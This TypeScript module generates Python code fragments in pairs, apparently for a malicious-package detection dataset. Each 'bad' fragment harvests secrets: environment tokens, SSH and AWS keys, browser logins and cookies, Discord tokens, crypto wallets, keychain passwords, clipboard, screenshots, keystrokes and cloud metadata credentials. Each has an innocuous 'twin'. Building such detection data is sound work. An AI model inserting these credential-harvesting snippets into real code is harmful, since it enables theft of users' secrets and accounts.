import { block, quoted, type PyWriter } from './writer.ts'

export type Use = (expression: string) => string

export interface PySource {
  readonly bad: (w: PyWriter, use: Use) => string
  readonly twin: (w: PyWriter, use: Use, name: string) => string
  /** it is a parameter of an exported function, of this name; the twin's beside it */
  readonly parameter?: readonly [string, string]
}

function got(w: PyWriter, expression: string, use: Use): string {
  const name = w.fresh('data')
  return `${name} = ${expression}\n${use(name)}`
}

function environ(w: PyWriter): string {
  return w.fn('os', 'environ')
}

function variable(w: PyWriter, name: string): string {
  return w.random.below(2) === 0
    ? `${environ(w)}.get(${w.text(name)}, '')`
    : `${w.fn('os', 'getenv')}(${w.text(name)}, '')`
}

/** A path below the home directory, in one of the usual spellings. */
export function home(w: PyWriter, path: string): string {
  switch (w.random.below(3)) {
    case 0:
      return `${w.fn('os.path', 'expanduser')}(${w.text(`~/${path}`)})`
    case 1:
      return `${w.fn('os.path', 'join')}(${w.fn('os.path', 'expanduser')}('~'), ${path
        .split('/')
        .map((part) => w.text(part))
        .join(', ')})`
    default:
      return `${w.fn('pathlib', 'Path')}.home() / ${w.text(path)}`
  }
}

function read(w: PyWriter, path: string): string {
  return `${w.builtin('open')}(${home(w, path)}, errors='ignore').read()`
}

function file(path: string): PySource {
  return {
    bad: (w, use) => got(w, read(w, path), use),
    twin: (w, use, name) => got(w, read(w, `.config/${name}/settings.ini`), use),
  }
}

function ran(w: PyWriter, command: string, use: Use): string {
  return got(w, `${w.fn('subprocess', 'check_output')}(${command}, shell=True).decode()`, use)
}

/** What a command prints. The twin's stands there as it is: no innocent package hides a command. */
function output(command: string, own: string): PySource {
  return { bad: (w, use) => ran(w, w.text(command), use), twin: (w, use) => ran(w, quoted(own), use) }
}

/** All files of a folder below the home directory. */
function folder(path: string): PySource {
  return { bad: (w, use) => walked(w, path, use), twin: (w, use, name) => walked(w, `.cache/${name}/pages`, use) }
}

function walked(w: PyWriter, path: string, use: Use): string {
  const found = w.fresh('found')
  const one = `${w.builtin('open')}(${w.fn('os.path', 'join')}(root, one), 'rb').read().hex()`
  const walk = `for root, _, names in ${w.fn('os', 'walk')}(str(${home(w, path)})):`
  return [`${found} = ''`, block(walk, block('for one in names:', `${found} += ${one}`)), use(found)].join('\n')
}

const argument = (own: string, theirs: string): PySource => ({
  parameter: [theirs, own],
  bad: (_w, use) => use(theirs),
  twin: (_w, use) => use(own),
})

const OWN = (name: string, what: string): string => `${name.replaceAll('-', '_').toUpperCase()}_${what}`

export const PY_SOURCES: Readonly<Record<string, PySource>> = {
  env: {
    bad: (w, use) => got(w, `str(dict(${environ(w)}))`, use),
    twin: (w, use, name) => got(w, `str(${variable(w, OWN(name, 'MODE'))})`, use),
  },
  'env-filtered': {
    bad: (w, use) => got(w, `{k: v for k, v in ${environ(w)}.items() if 'TOKEN' in k or 'KEY' in k}`, use),
    twin: (w, use, name) => got(w, `{k: v for k, v in {'mode': ${variable(w, OWN(name, 'MODE'))}}.items() if v}`, use),
  },
  'one-secret': {
    bad: (w, use) =>
      got(
        w,
        variable(w, w.random.pick(['PYPI_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY'])),
        use,
      ),
    twin: (w, use, name) => got(w, variable(w, OWN(name, 'LEVEL')), use),
  },
  'two-secrets': {
    bad: (w, use) => got(w, `${variable(w, 'AWS_ACCESS_KEY_ID')} + ':' + ${variable(w, 'GITHUB_TOKEN')}`, use),
    twin: (w, use) => got(w, `${variable(w, 'LANG')} + ':' + ${variable(w, 'TERM')}`, use),
  },
  pypirc: file('.pypirc'),
  npmrc: file('.npmrc'),
  aws: file('.aws/credentials'),
  ssh: file('.ssh/id_rsa'),
  kube: file('.kube/config'),
  netrc: file('.netrc'),
  'git-credentials': file('.git-credentials'),
  history: file('.bash_history'),
  agent: file('.claude/.credentials.json'),
  'browser-logins': file('.config/google-chrome/Default/Login Data'),
  'discord-tokens': folder('AppData/Roaming/discord/Local Storage/leveldb'),
  wallet: folder('.config/Exodus/exodus.wallet'),
  cookies: {
    bad: (w, use) => got(w, `str(${w.fn('browser_cookie3', 'chrome')}())`, use),
    twin: (w, use) => got(w, `str(${w.fn('http.cookies', 'SimpleCookie')}('mode=plain'))`, use),
  },
  dotenv: {
    bad: (w, use) =>
      got(
        w,
        `${w.builtin('open')}(${w.fn('os.path', 'join')}(${w.fn('os', 'getcwd')}(), ${w.text('.env')})).read()`,
        use,
      ),
    twin: (w, use) =>
      got(
        w,
        `${w.builtin('open')}(${w.fn('os.path', 'join')}(${w.fn('os.path', 'dirname')}(__file__), ${w.text('defaults.ini')})).read()`,
        use,
      ),
  },
  keyring: {
    bad: (w, use) =>
      got(w, `${w.fn('keyring', 'get_password')}(${w.text('login')}, ${w.fn('getpass', 'getuser')}())`, use),
    twin: (w, use, name) =>
      got(w, `${w.fn('configparser', 'ConfigParser')}().get(${w.text(name)}, 'mode', fallback='plain')`, use),
  },
  keychain: output('security find-generic-password -ga login', 'git --version'),
  clipboard: {
    bad: (w, use) => got(w, `${w.fn('pyperclip', 'paste')}()`, use),
    twin: (w, use) => got(w, `${w.fn('textwrap', 'dedent')}(' plain')`, use),
  },
  screen: {
    bad: (w, use) => got(w, `${w.fn('PIL.ImageGrab', 'grab')}().tobytes()`, use),
    twin: (w, use) => got(w, `${w.fn('PIL.Image', 'new')}('RGB', (16, 16)).tobytes()`, use),
  },
  keyboard: {
    bad: (w, use) => {
      const seen = w.fresh('on_press')
      return `${block(`def ${seen}(key):`, use('str(key)'))}\n${w.fn('pynput.keyboard', 'Listener')}(on_press=${seen}).start()`
    },
    twin: (w, use) => {
      const seen = w.fresh('on_line')
      return `${block(`def ${seen}(line):`, use('str(line)'))}\n${w.fn('atexit', 'register')}(${seen}, 'done')`
    },
  },
  metadata: {
    bad: (w, use) =>
      got(
        w,
        `${w.fn('urllib.request', 'urlopen')}(${w.text('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}, timeout=2).read()`,
        use,
      ),
    twin: (w, use) =>
      got(w, `${w.fn('urllib.parse', 'urlparse')}(${w.text('https://docs.invalid/formats')}).path`, use),
  },
  machine: {
    bad: (w, use) =>
      got(
        w,
        `'|'.join([${w.fn('socket', 'gethostname')}(), ${w.fn('getpass', 'getuser')}(), ${w.fn('os', 'getcwd')}()])`,
        use,
      ),
    twin: (w, use) => got(w, `'|'.join([${w.fn('platform', 'system')}(), ${w.fn('platform', 'machine')}()])`, use),
  },
  mnemonic: argument('text', 'mnemonic'),
  'private-key': argument('message', 'private_key'),
  password: argument('note', 'password'),
}
